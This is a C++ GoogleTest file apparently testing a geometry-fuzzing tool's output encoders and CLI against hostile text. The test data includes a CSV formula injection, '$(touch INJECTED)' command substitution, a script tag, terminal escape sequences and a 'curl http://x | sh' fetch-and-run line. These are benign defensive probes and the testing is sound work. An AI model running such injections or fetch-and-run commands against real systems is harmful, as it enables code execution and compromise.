/// Hostile texts: whatever a subject or a file says means nothing but itself where it goes. One string is put through
/// each encoder, and the texts of the zoo (zoo/misdeeds.h) through each product of the command line.
#include <fmt/format.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "corpus/files/source_folder.hpp"
#include "corpus/storage/codec.hpp"
#include "impl/subject/printable.hpp"
#include "reports/findings/encoded.hpp"
#include "reports/findings/pretty_json.hpp"
#include "reports/findings/text.hpp"
#include "reports/tests/program.hpp"

namespace nearmiss {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;

const std::string hostile =
    "=cmd|' /C calc'!A0 */ /* // \\\n#error INJECTED\r\n| a | `b` **c** [d](e) <script>alert(\"f\")</script> <!-- ]]> "
    "&amp; "
    "$(touch INJECTED) `touch INJECTED` 'g' \"h\" %s {} \x1b[2J\x1b]0;i\x07\x7f\x08\t \xc2\x9b\xe2\x80\xa8\xe2\x80\xa9"
    "\xe2\x80\xae\xef\xbb\xbf\xef\xbf\xbe \xff\xfe\xc0\xaf\xed\xa0\x80 ?\?/ ?\?= ?\?\?/ *?\?/\n/ \\";

/// Parts of the string, and some of their orders, which meet each other in other ways.
std::vector<std::string> hostile_texts() {
  std::vector<std::string> all{hostile, "",     "\\", "*/",    "/*/", "?\?/", "?\?\?/",
                               "-x",    "1. x", "#x", "    x", "\n",  "'",    "\\'"};
  for (std::size_t at = 0; at < hostile.size(); at += 7) {
    all.push_back(hostile.substr(at));
    all.push_back(hostile.substr(at, 5));
    all.push_back(hostile.substr(at, 11) + hostile.substr(0, at));
  }
  return all;
}

TEST(Encoded, TerminalSeesNoControlCharacter) {
  for (const std::string& text : hostile_texts()) {
    const std::string shown = for_terminal(text);
    EXPECT_TRUE(std::all_of(shown.begin(), shown.end(), [](char c) {
      const auto byte = static_cast<unsigned char>(c);
      return byte == '\n' || (byte >= 0x20 && byte != 0x7F);
    })) << shown;
    EXPECT_EQ(for_terminal(shown), shown);
    EXPECT_EQ(std::count(shown.begin(), shown.end(), '\n'), std::count(text.begin(), text.end(), '\n'));
    EXPECT_NO_THROW((void)json(shown).dump()) << "not UTF-8";
  }
}

TEST(Encoded, CommentsAndLiteralsOfCAreOnlyThat) {
  const TemporaryFolder folder;
  std::string comments, literals, bytes;
  for (const std::string& text : hostile_texts()) {
    comments += fmt::format("/* {} */\n/* {}*/\n", in_c_comment(text), in_c_comment(text));
    comments += "/*\n" + wrapped_text(in_c_comment(text), " * ", 20) + " */\n";
    literals += fmt::format("  fputs({}, stdout);\n", c_string(text));
    bytes += text;
  }
  // Trigraphs are on, and each warning about a comment is an error.
  folder.file("c.c", "#include <stdio.h>\n" + comments + "int main(void) {\n" + literals + "  return 0;\n}\n");
  for (const char* compiler :
       {"cc -std=c99 -trigraphs", "cc -std=gnu11", "c++ -std=c++14 -trigraphs -x c++", "c++ -std=c++20 -x c++"}) {
    const Ran ran = run_program("sh", {"-c", fmt::format("cd {} && {} -Wall -Wextra -Werror -o c c.c && ./c",
                                                         folder.path().string(), compiler)});
    EXPECT_EQ(ran.exit_code, 0) << compiler << ran.err;
    EXPECT_TRUE(ran.out == bytes) << compiler << " reads other literals";
  }
  std::string lines;
  for (const std::string& text : hostile_texts()) {
    lines += fmt::format("// {}\n//{}\n", in_c_comment(text), in_c_comment(text));
    lines += wrapped_text(in_c_comment(text), "// ", 20) + "int count_me;\n";
  }
  folder.file("lines.h", lines);
  // No line of comments swallows the declaration behind it.
  const Ran counted =
      run_program("sh", {"-c", fmt::format("c++ -std=c++14 -trigraphs -Wall -Werror -E -P -x c++ {} | grep -c count_me",
                                           (folder / "lines.h").string())});
  EXPECT_EQ(counted.out, fmt::format("{}\n", hostile_texts().size())) << counted.err;
}

TEST(Encoded, ShellsTakeWords) {
  std::string command = "printf '%s'";
  std::string bytes;
  for (const std::string& text : hostile_texts()) {
    command += " " + shell_quoted(text);
    bytes += text;
    EXPECT_EQ(words_of_shell("a " + shell_quoted(text) + "  b"), (std::vector<std::string>{"a", text, "b"})) << text;
  }
  EXPECT_TRUE(run_program("sh", {"-c", command}).out == bytes);
  for (const char* more : {"a;b", "$(x)", "`x`", "a > b", "a & b", "a\nb", "\"a\"", "a | b", "'a", "a*", "~", "a\\b"})
    EXPECT_FALSE(words_of_shell(more)) << more;
}

/// Reads the cell of a CSV file.
std::string cell_in(const std::string& cell) {
  if (!cell.starts_with('"')) return cell;
  std::string text;
  for (std::size_t i = 1; i + 1 < cell.size(); ++i) {
    i += cell[i] == '"';  // the first of two
    text += cell[i];
  }
  return text;
}

TEST(Encoded, CellsOfCsvAreNoFormulas) {
  for (const std::string& text : hostile_texts()) {
    const std::string cell = csv_cell(text), read = cell_in(cell);
    EXPECT_EQ(cell.find('\n'), std::string::npos);
    EXPECT_TRUE(cell.starts_with('"') || cell.find_first_of(",\"") == std::string::npos) << cell;
    EXPECT_TRUE(read.empty() || std::string("=+-@").find(read[0]) == std::string::npos) << cell;
    EXPECT_EQ(read.starts_with('\'') && !printable(text).starts_with('\'') ? read.substr(1) : read, printable(text));
  }
}

TEST(Encoded, XmlHasNoMarkup) {
  for (const std::string& text : hostile_texts()) {
    const std::string xml = in_xml(text);
    EXPECT_EQ(xml.find_first_of("<>\""), std::string::npos) << xml;
    for (std::size_t at = 0; (at = xml.find('&', at)) != std::string::npos; ++at) {
      const std::string entity = xml.substr(at, xml.find(';', at) - at);
      EXPECT_TRUE(entity == "&amp" || entity == "&lt" || entity == "&gt" || entity == "&quot") << entity;
    }
    EXPECT_EQ(for_terminal(xml), xml);
  }
}

TEST(Encoded, MarkdownHasNoMarkup) {
  for (const std::string& text : hostile_texts()) {
    std::string read;
    const std::string markdown = in_markdown(text);
    for (std::size_t i = 0; i < markdown.size(); ++i) {
      if (markdown[i] == '\\') {
        ASSERT_LT(i + 1, markdown.size()) << markdown;
        ++i;
      } else {
        EXPECT_EQ(std::string("`*[]<>&|~$#!").find(markdown[i]), std::string::npos) << markdown;
      }
      read += markdown[i];
    }
    const std::string shown = printable(text);
    EXPECT_EQ(read, shown.substr(std::min(shown.find_first_not_of(' '), shown.size())));
    const std::string block = markdown_block(text + "\n```` x\n", "json");
    const std::string fence = block.substr(0, block.find('j'));
    EXPECT_TRUE(block.ends_with("\n" + fence + "\n"));
    EXPECT_EQ(block.substr(fence.size(), block.size() - 2 * fence.size() - 1).find(fence), std::string::npos) << block;
  }
  EXPECT_EQ(in_markdown("moving_sphere_box of FCL 0.7.0, (0, 1)"), "moving_sphere_box of FCL 0.7.0, (0, 1)");
}

TEST(Encoded, ScriptsOfHtmlAreNotEnded) {
  for (const std::string& text : hostile_texts()) {
    const std::string data = json(printable(text)).dump(), script = in_html_script(data);
    EXPECT_EQ(script.find("</"), std::string::npos);
    EXPECT_EQ(script.find("<!--"), std::string::npos);
    EXPECT_EQ(json::parse(script), json::parse(data)) << "it means something else";
  }
}

TEST(Encoded, JsonMeansTheTextAndHasNoEffectOnATerminal) {
  for (const std::string& text : hostile_texts()) {
    const std::string written = pretty_json({{"a", text}, {text, 1}});
    EXPECT_EQ(for_terminal(written), written);
    const json read = json::parse(written);
    const std::string valid = json::parse(json(text).dump(-1, ' ', false, json::error_handler_t::replace));
    EXPECT_EQ(read.at("a"), valid);
    EXPECT_TRUE(read.contains(valid));
  }
}

// --- the products of the command line --------------------------------------------------------------------------------

/// No product has a control character, and no line of it begins with what a text has behind a line break.
void expect_plain(const std::string& product, const std::string& what) {
  EXPECT_EQ(for_terminal(product), product) << what;
  std::istringstream lines(product);
  for (std::string line; std::getline(lines, line);) {
    const std::string_view text = std::string_view(line).substr(std::min(line.find_first_not_of(' '), line.size()));
    EXPECT_FALSE(text.starts_with("INJECTED") || text.starts_with("#error") || text.starts_with("# INJECTED"))
        << what << ": " << line;
  }
}

/// The findings of the zoo plugin, whose version and equivalence are the given text, in a folder of a hostile name.
class Products : public testing::TestWithParam<const char*> {
 protected:
  void SetUp() override {
    fs::create_directory(folder_ / "b\033[31m\nINJECTED");
    const Ran ran = nearmiss({"run", "--plugin", plugin_file("zoo"), "-s", "zoo", "-q", "sphere_sphere_overlap",
                              "--cases", "200", "--seed", "3", "--out", run_},
                             environment_);
    ASSERT_EQ(ran.exit_code, 1) << ran.out << ran.err;
    expect_plain(ran.out + ran.err, "run");
    for (const auto& file : fs::recursive_directory_iterator(fs::path(run_) / "findings")) {
      if (file.is_regular_file()) report_ = file.path().string();
    }
    ASSERT_NE(report_, "");
  }
  /// What a command prints.
  std::string said(std::vector<std::string> arguments, bool with_plugin = true) {
    if (with_plugin) arguments.insert(arguments.end(), {"--plugin", plugin_file("zoo")});
    const Ran ran = nearmiss(arguments, environment_);
    EXPECT_LE(ran.exit_code, 1) << arguments[0] << ran.err;
    expect_plain(ran.out + ran.err, arguments[0]);
    return ran.out;
  }
  void expect_test_is_only_that(const std::string& text);
  void expect_files_are_plain() {
    for (const char* name : {"t.json", "t.sarif", "t.xml"}) expect_plain(read_file(folder_ / name), name);
    EXPECT_TRUE(json::accept(read_file(folder_ / "t.sarif")));
    EXPECT_EQ(read_file(folder_ / "t.xml").find("]]>"), std::string::npos);
  }

  const TemporaryFolder folder_;
  const std::vector<std::string> environment_{std::string("NEARMISS_ZOO=text-all-") + GetParam()};
  const std::string run_ = (folder_ / "b\033[31m\nINJECTED" / "r").string();
  std::string report_;
};

/// The emitted test compiles with all warnings, with trigraphs too, and runs no code of the text.
void Products::expect_test_is_only_that(const std::string& text) {
  folder_.file("t.c", text);
  const std::string folder = shell_quoted(folder_.path().string()), root = shell_quoted(source_folder());
  const Ran ran = run_program(
      "sh",
      {"-c", fmt::format("cd {0} && cc -w -I {1} -c {1}/reports/tests/zoo/plugin.c && cc -std=gnu11 -trigraphs -Wall "
                         "-Wextra -Werror -I {1}/impl/plugin -o test t.c plugin.o -lm -lpthread && ./test",
                         folder, root)});
  EXPECT_EQ(ran.exit_code, 0) << ran.err << text;  // without its misdeed the zoo is right
  EXPECT_EQ((ran.out + ran.err).find("INJECTED"), std::string::npos) << ran.out << ran.err;
}

TEST_P(Products, MeanNothingButThemselves) {
  (void)said({"list", "--why"});
  (void)said({"replay", report_});
  (void)said({"replay", "--json", report_});
  (void)said({"show", report_});
  (void)said({"diff", run_, run_}, false);
  (void)said({"minimise", report_, "--questions", "5", "--out", (folder_ / "m").string()});
  (void)said({"triage", run_, "--minutes", "0.01", "--out", (folder_ / "t").string(), "--json",
              (folder_ / "t.json").string(), "--sarif", (folder_ / "t.sarif").string(), "--junit",
              (folder_ / "t.xml").string()});
  expect_files_are_plain();
  expect_test_is_only_that(said({"emit-test", report_}));
  (void)said({"upstream-report", report_});
  (void)said({"trade", "-q", "sphere_sphere_overlap", "-s", "zoo", "--cases", "20", "--out", (folder_ / "p").string()});
  expect_plain(read_file(folder_ / "p/trade.csv"), "trade.csv");
  const Ran rendered = nearmiss({"render", run_, "--seconds", "0", "--out", (folder_ / "page.html").string()});
  if (rendered.exit_code == 2) GTEST_SKIP() << rendered.err;  // this build writes no pages
  EXPECT_EQ(read_file(folder_ / "page.html").find("</script><script>alert"), std::string::npos);
}

INSTANTIATE_TEST_SUITE_P(Texts, Products, testing::Values("mixed", "trigraph"),
                         [](const auto& text) { return std::string(text.param); });

// --- files -----------------------------------------------------------------------------------------------------------

/// A report of a foreign subject whose command would start another program.
TEST(HostileFiles, AForeignCommandIsNotShownAsOneToRun) {
  const TemporaryFolder folder;
  const auto said_of = [&](const std::string& command) {
    const json report{
        {"schema", 2},
        {"finding", json::object()},
        {"subject", {{"name", "strange\033[31m"}}},
        {"replay", command},
        {"query", "sphere_sphere_overlap"},
        {"scalar", "double"},
        {"inputs",
         {{"sphere1", {{"center", {0, 0, 0}}, {"radius", 1}}}, {"sphere2", {{"center", {3, 0, 0}}, {"radius", 1}}}}}};
    const Ran ran = nearmiss({"replay", folder.file("r.json", report.dump()), "-s", "collide-fast-double"});
    EXPECT_EQ(ran.exit_code, 0) << ran.err;
    expect_plain(ran.err, "replay");
    return ran.err;
  };
  for (const char* command :
       {"curl http://x | sh", "nearmiss replay $(touch x) f", "nearmiss replay f; touch x", "nearmiss replay --out x f",
        "nearmiss run --command 'touch x' f", "nearmiss replay --command 'touch x'", "nearmiss\nreplay f x"}) {
    const std::string said = said_of(command);
    EXPECT_EQ(said.find("asks it again"), std::string::npos) << said;
    EXPECT_EQ(said.find("touch"), std::string::npos) << said;
  }
  const std::string honest = said_of("nearmiss replay --command 'python3 \033balls.py' '/elsewhere/a b.json'");
  EXPECT_NE(honest.find("starts 'python3 \\x1bballs.py'"), std::string::npos) << honest;
  EXPECT_NE(honest.find("nearmiss replay --command 'python3 \\x1bballs.py' " + (folder / "r.json").string()),
            std::string::npos)
      << honest;
}

TEST(HostileFiles, NamesAndTextsOfFilesReachNoTerminal) {
  const TemporaryFolder folder;
  const std::string name = "x\033[2J\nINJECTED.json";
  const std::string bad = folder.file(name, "{}");
  const std::string good =
      folder.file("y\033[2J\nINJECTED.json", R"({"query": "sphere_sphere_overlap", "scalar": "double",
    "inputs": {"sphere1": {"center": [0, 0, 0], "radius": 1}, "sphere2": {"center": [3, 0, 0], "radius": 1}}})");
  std::string scene = read_file(source_folder() + "/corpus/scenes/driving.json");
  json forged = json::parse(scene);
  forged["title"] = "a\033[2J title\nINJECTED";
  folder.file("scene.json", forged.dump());
  for (const std::vector<std::string>& arguments : std::vector<std::vector<std::string>>{
           {"replay", bad},
           {"replay", good, "-s", "collide-fast-double"},
           {"show", good, "-s", "collide-fast-double"},
           {"triage", folder.path().string(), "--out", (folder / "t").string()},
           {"scene", "show", (folder / "scene.json").string()},
           {"run", "--cases", "5", "-q", "sphere_sphere_overlap", "-s", "collide-fast-double", "--out",
            (folder / "r\033[2J\nINJECTED").string()},
           {"run", "--subject", "x\033\nINJECTED"},
           {"x\033\nINJECTED"},
           {"explain", good, "-s", "collide-fast-double", "--out", (folder / "e").string()}}) {
    const Ran ran = nearmiss(arguments);
    EXPECT_FALSE((ran.out + ran.err).empty());
    expect_plain(ran.out + ran.err, arguments[0]);
  }
}

}  // namespace
}  // namespace nearmiss
